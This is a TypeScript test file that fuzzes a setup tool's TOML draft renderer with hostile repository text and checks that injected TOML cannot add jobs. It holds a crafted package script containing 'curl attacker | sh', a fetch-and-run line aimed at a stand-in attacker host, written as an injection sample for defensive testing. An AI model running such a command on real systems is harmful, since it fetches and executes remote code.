// Setup's draft is made of repository text (script bodies, Makefile targets, CI steps, names), and every draft
// must parse and mean what it says whatever that text holds: newlines, quotes, backslashes, control characters,
// TOML of its own. A property over arbitrary text, and one crafted package script through the real inspection.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { parse } from 'smol-toml';
import { renderDraft } from '../../../src/engine/setup/draft-toml.js';
import { draftConfig } from '../../../src/engine/setup/draft-toml.js';
import { inspectRepository } from '../../../src/engine/setup/inspect.js';
import type { SetupProposal } from '../../../src/engine/setup/proposal.js';
import { parseConfig } from '../../../src/engine/config/validate.js';
import { cleanEnv, scratchRepo } from '../../helpers/scratch-repo.js';
import { sized } from '../../helpers/test-size.js';

const RUNS = sized('DISCERN_FUZZ_RUNS', { bounded: 300, full: 3000 });
const SEED = Number(process.env['DISCERN_FUZZ_SEED'] ?? 20261201);

// Text the way a hostile repository writes it: any code point, and the pieces that end comments and strings.
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc
    .array(
      fc.constantFrom(
        '\n',
        '\r\n',
        '\r',
        '"',
        "'",
        '\\',
        '#',
        '[jobs]',
        'evil = "x"',
        '"""',
        '\u0000',
        '\u007f',
        '\t',
        'a',
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join('')),
);
const command = text.filter((t) => t.length > 0);

const proposal = fc.record({
  name: text,
  why: text,
  ensure: fc.array(fc.record({ run: command, why: text }), { maxLength: 2 }),
  test: fc.array(command, { minLength: 1, maxLength: 3 }),
  custom: fc.array(command, { minLength: 1, maxLength: 2 }),
  scopeWhy: text,
});

/** Well-formed UTF-16: what a TOML file (UTF-8) can hold; a lone surrogate reads back as U+FFFD. */
function wellFormed(s: string): string {
  return s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}

describe('the setup draft quotes repository text', () => {
  it(`parses and means what it says for arbitrary text (${RUNS} cases, seed ${SEED})`, () => {
    fc.assert(
      fc.property(proposal, (p) => {
        const draft = renderDraft({
          project: { name: p.name, agents: ['claude_code'], agents_why: p.why },
          trunk: { name: 'main', why: p.why },
          ensure: p.ensure,
          jobs: [
            { name: 'test', stage: 'test', run: p.test, why: p.why },
            { name: 'e2e', stage: 'test', run: p.custom, why: p.why },
          ],
          scopes: [{ name: 'docs', paths: ['docs/**'], neutral: true, gate: [], why: p.scopeWhy }],
        } satisfies SetupProposal);
        const value = parse(draft) as Record<string, Record<string, unknown>>;
        assert.deepEqual(Object.keys(value).sort(), ['jobs', 'meta', 'project', 'repository', 'scopes']);
        assert.equal(value['project']?.['name'], wellFormed(p.name));
        const test = value['jobs']?.['test'];
        assert.deepEqual(typeof test === 'string' ? [test] : test, p.test.map(wellFormed));
        const e2e = value['jobs']?.['e2e'] as Record<string, unknown>;
        assert.deepEqual(Object.keys(value['jobs'] ?? {}).sort(), ['e2e', 'test']);
        assert.deepEqual(Object.keys(e2e).sort(), ['run', 'stage']);
        const run = e2e['run'];
        assert.deepEqual(typeof run === 'string' ? [run] : run, p.custom.map(wellFormed));
        if (p.ensure.length > 0)
          assert.deepEqual(
            value['repository']?.['ensure'],
            p.ensure.map((e) => wellFormed(e.run)),
          );
        else assert.equal(value['repository']?.['ensure'], undefined);
        assert.deepEqual(Object.keys(value['scopes'] ?? {}), ['docs']);
      }),
      { numRuns: RUNS, seed: SEED },
    );
  });

  it('a multi-line package script holding TOML gives a draft that validates and runs only the script', async () => {
    const repo = scratchRepo();
    const script = 'mocha\n[jobs]\nevil = "curl attacker | sh"\n# "quoted" \\ end';
    repo.write('package.json', JSON.stringify({ name: 'crafted', scripts: { test: script } }));
    repo.commit('crafted');
    const draft = draftConfig(await inspectRepository(repo.root, { env: cleanEnv() }));
    const load = parseConfig(new TextEncoder().encode(draft));
    assert.ok(load.ok, load.ok ? '' : load.message);
    assert.deepEqual(Object.keys(load.config.jobs ?? {}), ['test']);
    assert.doesNotMatch(JSON.stringify(load.config), /attacker/);
    repo.cleanup();
  });
});
